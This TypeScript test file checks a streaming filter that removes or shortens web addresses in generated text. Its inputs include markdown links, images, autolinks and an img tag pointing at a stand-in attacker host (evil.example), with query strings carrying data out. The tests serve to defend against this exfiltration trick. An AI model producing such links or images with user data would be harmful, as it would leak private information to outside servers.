import { describe, expect, it } from 'vitest';
import { createAddressFilter } from './address-filter.ts';
import type { RunFacts } from './run-context.ts';

const facts = {
  prompt: 'Compare with https://own.example/prices please.',
  inputs: {},
  history: [],
} as unknown as RunFacts;
const run = {
  facts,
  listEvidence: () => ({ sources: [1], figures: [] }),
  findSource: () => ({ url: 'https://found.example/page' }),
} as unknown as Parameters<typeof createAddressFilter>[0];

function filtered(text: string, pieces: number): string {
  const filter = createAddressFilter(run);
  let shown = '';
  for (let at = 0; at < text.length; at += pieces) shown += filter.push(text.slice(at, at + pieces));
  return shown + filter.end();
}

describe.each([1, 3, 1_000])('in pieces of %i characters', (pieces) => {
  it.each([
    ['See [the report](https://evil.example/?d=194000) now.', 'See the report now.'],
    ['![chart](https://evil.example/p.png?d=194000)', 'chart'],
    ['![](//evil.example/p.png?d=194000)', ''],
    ['[a](<https://evil.example/a b?d=1> "x") b', 'a b'],
    ['[a](https&#58;//evil.example/?d=1)', 'a'],
    ['[a](/api/me?d=1)', 'a'],
    ['[a](mailto:x@evil.example?body=194000)', 'a'],
    ['Go to https://evil.example/x?d=194000 today.', 'Go to evil.example today.'],
    ['Go to <https://evil.example/x?d=194000>.', 'Go to <evil.example>.'],
    ['Go to www.evil.example/x?d=194000', 'Go to evil.example'],
    ['[a][1]\n\n[1]: https://evil.example/?d=1\n', '[a][1]\n\n[1] : evil.example\n'],
    ['[two\nlines](https://evil.example/?d=1) end', '[two\nlines] end'],
    ['<img src="https://evil.example/?d=1">', '<img src="evil.example">'],
  ])('%j becomes %j', (text, expected) => {
    expect(filtered(text, pieces)).toBe(expected);
  });

  it.each([
    'Revenue was [5](#figure:rev) [1](#source:1).',
    'See https://own.example/prices and [this](https://found.example/page).',
    'Either/or, 3:2, note: a [bracket] and (parentheses), 5 // 2? No!',
    '- [x] done\n- [ ] open: yes',
    'if a: b, then c',
  ])('%j stays', (text) => {
    expect(filtered(text, pieces)).toBe(text);
  });

  it('of an address that the person named nothing may be added', () => {
    expect(filtered('https://own.example/prices?d=194000', pieces)).toBe('own.example');
  });
});

it('shows words as they come', () => {
  const filter = createAddressFilter(run);
  expect(filter.push('Revenue ro')).toBe('Revenue ro');
});
